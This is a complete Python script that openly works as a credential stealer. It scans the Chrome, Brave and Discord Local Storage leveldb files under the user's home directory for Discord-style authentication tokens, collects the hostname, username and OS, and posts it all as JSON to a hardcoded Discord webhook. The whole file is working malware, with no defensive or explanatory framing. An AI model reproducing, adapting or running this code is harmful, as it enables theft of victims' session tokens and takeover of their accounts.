"""Collects browser tokens and system details and posts them to a webhook."""
import json
import os
import platform
import re
import socket
import urllib.request

WEBHOOK = "https://discord.com/api/webhooks/1122334455/AbCdEfGh"
TOKEN_RE = re.compile(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}")


def browser_paths():
    home = os.path.expanduser("~")
    roots = {
        "chrome": os.path.join(home, ".config", "google-chrome", "Default", "Local Storage", "leveldb"),
        "discord": os.path.join(home, ".config", "discord", "Local Storage", "leveldb"),
        "brave": os.path.join(home, ".config", "BraveSoftware", "Brave-Browser", "Default", "Local Storage", "leveldb"),
    }
    return {k: v for k, v in roots.items() if os.path.isdir(v)}


def find_tokens(path):
    found = []
    for name in os.listdir(path):
        if not name.endswith((".log", ".ldb")):
            continue
        with open(os.path.join(path, name), errors="ignore") as fh:
            for line in fh:
                found.extend(TOKEN_RE.findall(line))
    return found


def system_info():
    return {
        "host": socket.gethostname(),
        "user": os.getlogin(),
        "os": platform.platform(),
    }


def report(tokens):
    payload = {"content": json.dumps({"tokens": tokens, "info": system_info()})}
    req = urllib.request.Request(WEBHOOK, data=json.dumps(payload).encode(),
                                 headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req)


if __name__ == "__main__":
    tokens = []
    for browser, path in browser_paths().items():
        tokens += find_tokens(path)
    if tokens:
        report(tokens)
